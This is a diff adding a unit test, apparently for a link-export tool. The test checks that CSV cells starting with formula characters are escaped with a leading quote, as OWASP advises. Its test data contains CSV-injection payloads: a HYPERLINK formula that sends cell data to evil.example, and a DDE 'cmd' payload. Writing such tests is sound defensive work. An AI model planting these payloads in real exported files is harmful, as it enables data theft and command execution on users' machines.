@@ -64,6 +64,39 @@ describe('exportLinks', () => {
     expect(csv).not.toContain('no link yet')
   })
 
+  it('makes CSV cells that a spreadsheet would run as formulas plain text (OWASP: a leading quote)', () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1,2)',
+      '\t=1+1',
+      '\r=1+1',
+    ]
+    const csv = exportLinks(
+      hostile.map((name, index) => entry({ name, link: `https://1fichier.com/?h${index}` })),
+      'csv',
+      HEADERS,
+    )
+    const cells = csv
+      .split('\r\n')
+      .slice(1, -1)
+      .map((line) => line.slice(0, line.indexOf(',https://')))
+    expect(cells).toEqual([
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
+      "'+1+cmd|' /C calc'!A0",
+      "'-2+3",
+      '"\'@SUM(1,2)"',
+      "'\t=1+1",
+      '"\'\r=1+1"',
+    ])
+    // Names that merely contain those characters, and the other formats, stay as they are.
+    expect(exportLinks([entry({ name: 'a=b+c-d@e.txt' })], 'csv', HEADERS)).toContain('\r\na=b+c-d@e.txt,')
+    expect(exportLinks([entry({ name: '=1+1' })], 'markdown-list', HEADERS)).toBe(
+      '- [=1+1](https://1fichier.com/?aaaa)\n',
+    )
+  })
+
   it('escapes pipes in a Markdown table and adds the removal column only when needed', () => {
     const table = exportLinks(tricky, 'markdown-table', HEADERS).split('\n')
     expect(table[0]).toBe('| Name | Link | Removal link |')
